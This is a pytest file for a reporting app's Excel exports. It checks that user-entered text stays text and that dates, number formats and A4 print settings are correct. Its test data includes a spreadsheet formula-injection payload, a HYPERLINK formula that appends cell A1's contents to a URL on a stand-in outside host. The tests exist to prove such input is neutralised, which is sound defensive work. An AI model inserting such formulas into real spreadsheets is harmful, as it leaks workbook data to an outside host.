"""The workbooks a clerk prints or opens: the consolidated report's tables and the round board.
Text typed by a user stays text (never a formula), dates are dates, numbers carry a format,
and the sheets print on A4 fitted to the width with their header rows repeated."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from annual.content import gather, report_for_round
from annual.xlsx import build_xlsx
from reports.exports import round_board_xlsx
from reports.models import TargetReport, TaskReport

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_consolidated_workbook_keeps_an_agencys_formula_as_text(annual_round):
    report = TaskReport.objects.filter(
        submission__round=annual_round, submission__state="accepted"
    ).first()
    report.results = FORMULA
    report.save()
    TargetReport.objects.filter(
        submission__round=annual_round, submission__state="accepted"
    ).update(note="=1+1")
    workbook = load_workbook(io.BytesIO(build_xlsx(gather(report_for_round(annual_round)))))
    cells = list(_cells(workbook))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells] and "=1+1" in [c.value for c in cells]


def test_the_consolidated_workbook_has_dates_number_formats_and_a_print_setup(annual_round):
    workbook = load_workbook(io.BytesIO(build_xlsx(gather(report_for_round(annual_round)))))
    agencies = workbook["Cơ quan báo cáo"]
    header = [c.value for c in agencies[1]]
    column = header.index("Ngày gửi") + 1
    dates = [row[column - 1] for row in agencies.iter_rows(min_row=2) if row[column - 1].value]
    assert dates and all(isinstance(c.value, dt.datetime) for c in dates)
    assert {c.number_format for c in dates} == {"dd/mm/yyyy"}
    targets = workbook["Chỉ tiêu"]
    numbers = [
        c for row in targets.iter_rows(min_row=2) for c in row if isinstance(c.value, (int, float))
    ]
    assert numbers and all(c.number_format != "General" for c in numbers)
    column_2026 = [c.value for c in targets[1]].index("Năm 2026")
    formats = {row[column_2026].number_format for row in targets.iter_rows(min_row=2)}
    assert "#,##0.0" in formats  # 65,4 beside 36,1: one decimal for the column
    for sheet in workbook.worksheets:
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
        assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
    assert workbook["Nhiệm vụ"].page_setup.orientation == "landscape"
    tasks = workbook["Nhiệm vụ"]
    content = [c.value for c in tasks[1]].index("Nội dung nhiệm vụ")
    assert all(row[content].alignment.wrap_text for row in tasks.iter_rows(min_row=2))


def test_the_round_board_keeps_typed_text_as_text_and_dates_as_dates(annual_round):
    annual_round.title = FORMULA
    submissions = list(annual_round.submissions.select_related("agency"))
    submissions[0].agency.name = '=HYPERLINK("x")'
    workbook = load_workbook(io.BytesIO(round_board_xlsx(annual_round, submissions)))
    sheet = workbook.active
    cells = list(_cells(workbook))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == FORMULA and sheet["A5"].value == '=HYPERLINK("x")'
    assert isinstance(sheet["B2"].value, dt.datetime) and sheet["B2"].number_format == "dd/mm/yyyy"
    firsts = [row[2] for row in sheet.iter_rows(min_row=5) if row[2].value]
    assert firsts and all(isinstance(c.value, dt.datetime) for c in firsts)
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$4:$4"
